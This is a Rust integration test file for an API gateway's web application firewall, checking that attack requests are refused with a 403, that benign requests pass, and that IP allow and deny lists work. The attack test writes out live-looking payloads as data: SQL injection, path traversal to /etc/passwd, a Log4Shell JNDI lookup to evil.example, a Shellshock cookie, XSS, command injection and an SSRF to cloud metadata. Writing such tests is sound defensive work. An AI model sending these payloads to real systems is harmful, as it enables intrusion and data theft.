//! The `waf` policy through the local server: attacks in the query, headers,
//! JSON and form bodies are refused with a 403 problem that names no rule and
//! never reach the upstream; detect mode forwards; exclusions switch rules
//! off; benign requests pass; IP allow and deny lists by CIDR (v4 and v6) use
//! the client address from the trusted-proxies rule.

mod common;

use anyhow::{Result, ensure};
use common::{TestGateway, assert_problem, client, fill, received, without_request_id};

async fn gateway(yaml: &str, up: &wiremock::MockServer) -> Result<TestGateway> {
    TestGateway::start(&fill(yaml, &[("UP", &up.uri())])).await
}

const CONFIG: &str = r#"
version: 1
upstreams:
  backend: { url: "UP" }
routes:
  - path: /block/{*rest}
    upstream: backend
    policies:
      - waf: {}
  - path: /detect/{*rest}
    upstream: backend
    policies:
      - waf: { mode: detect }
  - path: /excluded/{*rest}
    upstream: backend
    policies:
      - waf: { exclude: [941100, 941110, 941170] }
  - path: /headers-only/{*rest}
    upstream: backend
    policies:
      - waf: { inspect: { query: false, body: false, headers: [x-custom] } }
  - path: /capped/{*rest}
    upstream: backend
    policies:
      - waf: { inspect: { body_limit: 32, oversize: refuse } }
"#;

/// Checks a 403 problem that does not give the rule away.
async fn assert_blocked(resp: reqwest::Response) -> Result<()> {
    let v = without_request_id(assert_problem(resp, 403, "request-blocked").await?);
    let text = v.to_string();
    for leak in [
        "942", "941", "930", "932", "944", "934", "rule", "sql", "xss",
    ] {
        ensure!(
            !text.to_lowercase().contains(leak),
            "problem names `{leak}`: {text}"
        );
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_blocked_before_the_upstream() -> Result<()> {
    let up = common::ok_upstream().await;
    let gw = gateway(CONFIG, &up).await?;
    let c = client();

    let query = c
        .get(gw.url("/block/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"))
        .send()
        .await?;
    assert_blocked(query).await?;
    let double = c
        .get(gw.url("/block/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd"))
        .send()
        .await?;
    assert_blocked(double).await?;
    let header = c
        .get(gw.url("/block/x"))
        .header("user-agent", "${${lower:j}ndi:ldap://evil.example/a}")
        .send()
        .await?;
    assert_blocked(header).await?;
    let cookie = c
        .get(gw.url("/block/x"))
        .header("cookie", "s=1; theme=() { :; }; /bin/bash -c id")
        .send()
        .await?;
    assert_blocked(cookie).await?;
    let json = c
        .post(gw.url("/block/comments"))
        .header("content-type", "application/json")
        .body(r#"{"post":{"id":7,"comments":[{"text":"<img src=x onerror=alert(1)>"}]}}"#)
        .send()
        .await?;
    assert_blocked(json).await?;
    let form = c
        .post(gw.url("/block/ping"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd")
        .send()
        .await?;
    assert_blocked(form).await?;
    let ssrf = c
        .post(gw.url("/block/hooks"))
        .header("content-type", "application/json")
        .body(r#"{"url":"http://2852039166/latest/meta-data/"}"#)
        .send()
        .await?;
    assert_blocked(ssrf).await?;

    assert!(received(&up).await.is_empty(), "the upstream saw an attack");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn benign_requests_pass() -> Result<()> {
    let up = common::ok_upstream().await;
    let gw = gateway(CONFIG, &up).await?;
    let c = client();
    let prose = c
        .get(gw.url(
            "/block/search?q=O%27Reilly%27s+book+isn%27t+here&note=select+a+date+from+the+calendar+and+update+your+order",
        ))
        .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0")
        .header("referer", "https://example.com/products?id=12&ref=home")
        .header("cookie", "session=abc123; theme=dark")
        .send()
        .await?;
    assert_eq!(prose.status(), 200);
    let json = c
        .post(gw.url("/block/orders"))
        .header("content-type", "application/json")
        .body(
            r#"{"email":"jane.doe+news@example.com","note":"Don't ring -- leave it at the door","site":"https://example.com/a?b=1","body":"See [docs](https://docs.example.com) and run `cargo build`"}"#,
        )
        .send()
        .await?;
    assert_eq!(json.status(), 200);
    let form = c
        .post(gw.url("/block/contact"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("name=Tom+%26+Jerry&message=I%27d+like+to+order+by+phone%3B+thanks%21")
        .send()
        .await?;
    assert_eq!(form.status(), 200);
    assert_eq!(received(&up).await.len(), 3);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_forwards_and_exclusions_switch_rules_off() -> Result<()> {
    let up = common::ok_upstream().await;
    let gw = gateway(CONFIG, &up).await?;
    let c = client();
    let attack = "/?q=%3Cscript%3Ealert(1)%3C/script%3E";
    let detected = c.get(gw.url(&format!("/detect{attack}"))).send().await?;
    assert_eq!(detected.status(), 200);
    let excluded = c.get(gw.url(&format!("/excluded{attack}"))).send().await?;
    assert_eq!(excluded.status(), 200);
    // Excluding the script rules leaves the others: an SQL injection is still refused.
    let other = c
        .get(gw.url("/excluded/?q=1%27%20OR%20%271%27%3D%271"))
        .send()
        .await?;
    assert_blocked(other).await?;
    assert_eq!(received(&up).await.len(), 2);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn inspection_follows_the_route_settings() -> Result<()> {
    let up = common::ok_upstream().await;
    let gw = gateway(CONFIG, &up).await?;
    let c = client();
    // Query and body are not inspected on this route; the named header is.
    let query = c
        .post(gw.url("/headers-only/?q=%3Cscript%3E"))
        .header("content-type", "application/json")
        .body(r#"{"a":"<script>"}"#)
        .send()
        .await?;
    assert_eq!(query.status(), 200);
    let header = c
        .get(gw.url("/headers-only/"))
        .header("x-custom", "<script>alert(1)</script>")
        .send()
        .await?;
    assert_blocked(header).await?;
    // A body over the inspection cap is refused when the route says so.
    let big = c
        .post(gw.url("/capped/"))
        .header("content-type", "application/json")
        .body(format!(r#"{{"text":"{}"}}"#, "a".repeat(64)))
        .send()
        .await?;
    assert_problem(big, 413, "body-too-large").await?;
    let small = c
        .post(gw.url("/capped/"))
        .header("content-type", "application/json")
        .body(r#"{"text":"hi"}"#)
        .send()
        .await?;
    assert_eq!(small.status(), 200);
    assert_eq!(received(&up).await.len(), 2);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ip_allow_and_deny_lists_use_the_trusted_client_address() -> Result<()> {
    let up = common::ok_upstream().await;
    let yaml = r#"
version: 1
server:
  trusted_proxies: [127.0.0.1]
upstreams:
  backend: { url: "UP" }
routes:
  - path: /deny
    upstream: backend
    policies:
      - deny: { ips: [203.0.113.0/24, "2001:db8:bad::/48"] }
      - waf: {}
  - path: /allow
    upstream: backend
    policies:
      - deny: { except_ips: [198.51.100.0/24, "2001:db8:1::/64"] }
"#;
    let gw = gateway(yaml, &up).await?;
    let c = client();
    let from = |path: &str, ip: &str| {
        c.get(gw.url(path))
            .header("x-forwarded-for", ip.to_owned())
            .send()
    };
    assert_problem(from("/deny", "203.0.113.9").await?, 403, "access-denied").await?;
    assert_problem(
        from("/deny", "2001:db8:bad::1").await?,
        403,
        "access-denied",
    )
    .await?;
    assert_eq!(from("/deny", "198.51.100.1").await?.status(), 200);
    assert_eq!(from("/deny", "2001:db8:1::1").await?.status(), 200);

    assert_eq!(from("/allow", "198.51.100.20").await?.status(), 200);
    assert_eq!(from("/allow", "2001:db8:1::20").await?.status(), 200);
    assert_problem(from("/allow", "203.0.113.9").await?, 403, "access-denied").await?;
    assert_problem(from("/allow", "2001:db8:2::1").await?, 403, "access-denied").await?;
    assert_eq!(received(&up).await.len(), 4);
    Ok(())
}
